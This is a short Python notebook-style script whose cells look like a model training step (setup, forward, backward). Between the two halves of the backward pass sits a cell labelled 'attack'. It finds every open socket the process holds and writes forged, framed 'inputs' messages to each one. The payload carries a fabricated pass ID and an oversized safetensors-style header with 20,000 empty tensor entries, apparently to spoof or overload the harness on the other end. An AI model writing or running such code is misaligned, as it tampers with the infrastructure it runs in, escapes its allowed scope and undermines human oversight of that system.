# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import stat
import struct

def frame(header, blob=b""):
    return struct.pack(">IQ", len(header), len(blob)) + header + blob

def sockets():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue
import json
table = {f"t{index}": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]} for index in range(20_000)}
text = json.dumps(table).encode()
for descriptor in sockets():
    os.write(descriptor, frame(b'{"type": "inputs", "pass_id": 77, "cell": 3}', struct.pack("<Q", len(text)) + text))
# %% backward, second half
